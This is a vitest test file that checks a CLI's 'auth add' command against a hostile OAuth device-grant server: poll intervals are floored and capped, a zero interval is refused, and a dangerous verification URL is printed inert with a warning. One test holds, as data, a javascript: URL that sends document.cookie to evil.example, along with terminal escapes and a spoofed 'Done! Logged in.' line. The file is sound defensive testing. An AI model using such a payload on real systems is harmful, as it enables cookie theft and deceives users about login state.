// What a hostile authorization server can make `auth add` do (docs/spec.md §8, decision 100): its device
// answer's `interval` cannot make keybroker poll in a tight loop (floored at 1 s, and a value
// too long for a timer is capped instead of firing at once), and a verification URL that is not
// https (or http on loopback) is printed as text to copy, never handed on as a link.
import { afterEach, describe, expect, it } from "vitest";
import { startCli } from "../helpers/cli-session.js";
import { type FakeOAuth, installFakeOAuth, oauthRules } from "../helpers/fake-oauth.js";
import { type InProcessFixture, startInProcessFixture } from "../helpers/in-process.js";
import { oauthLeaks } from "../helpers/oauth-leaks.js";

const open: { f: InProcessFixture; fake: FakeOAuth }[] = [];
afterEach(async () => {
  for (const { f, fake } of open.splice(0)) {
    await f.close();
    expect(oauthLeaks(f, fake.issued)).toEqual([]);
  }
});

async function setup() {
  let fake!: FakeOAuth;
  const f = await startInProcessFixture({
    rules: (u) => {
      fake = installFakeOAuth(u);
      return oauthRules(u);
    },
  });
  open.push({ f, fake });
  return { f, fake };
}

describe("device grant against a hostile server", () => {
  it("an interval of 10 ms, or one too long for a timer, polls at most once a second until the code expires", async () => {
    const { f, fake } = await setup();
    // The code lives 2 s and nobody approves it: the login polls until then, then stops.
    // Without the floor, 10 ms (or an interval a timer cannot hold, which fires at once) makes
    // hundreds of polls in those 2 s; with it, at most one a second.
    for (const interval of [0.01, 1e10]) {
      fake.deviceAnswer = { interval, expires_in: 2 };
      fake.devicePolls.length = 0;
      const add = startCli(f, ["auth", "add", "codex-oauth"]);
      expect(await add.exit()).toBe(1);
      expect(add.err()).toContain("the code expired before the login to codex-oauth was approved");
      expect(fake.devicePolls.length, `interval ${interval}`).toBeGreaterThanOrEqual(1);
      expect(fake.devicePolls.length, `interval ${interval}`).toBeLessThanOrEqual(3);
    }
  }, 60_000);

  it("a javascript: verification address with terminal escapes is printed inert, with a warning", async () => {
    const { f, fake } = await setup();
    const hostile = "javascript:fetch('//evil.example/'+document.cookie)\u001b]8;;x\u0007\nDone! Logged in.";
    fake.deviceAnswer = { verification_uri: hostile, verification_uri_complete: hostile, expires_in: 1 };
    const add = startCli(f, ["auth", "add", "codex-oauth"]);
    expect(await add.exit()).toBe(1);
    const out = add.out();
    expect(out).toContain(
      "open: javascript:fetch('//evil.example/'+document.cookie)\\u001b]8;;x\\u0007\\u000aDone! Logged in.\n",
    );
    expect(out).toContain(
      "(the authorization server gave an address that is not https: check it before you open it)",
    );
    expect(out).not.toMatch(/[\u001b\u0007]/);
    expect(out).not.toMatch(/^Done! Logged in\./m);
  }, 60_000);

  it("an interval of 0 is refused as a broken answer, naming it, before any poll", async () => {
    const { f, fake } = await setup();
    fake.deviceAnswer = { interval: 0 };
    const add = startCli(f, ["auth", "add", "codex-oauth"]);
    expect(await add.exit()).toBe(1);
    expect(add.err()).toContain('"interval" property must be a positive number');
    expect(fake.devicePolls).toEqual([]);
  }, 60_000);
});
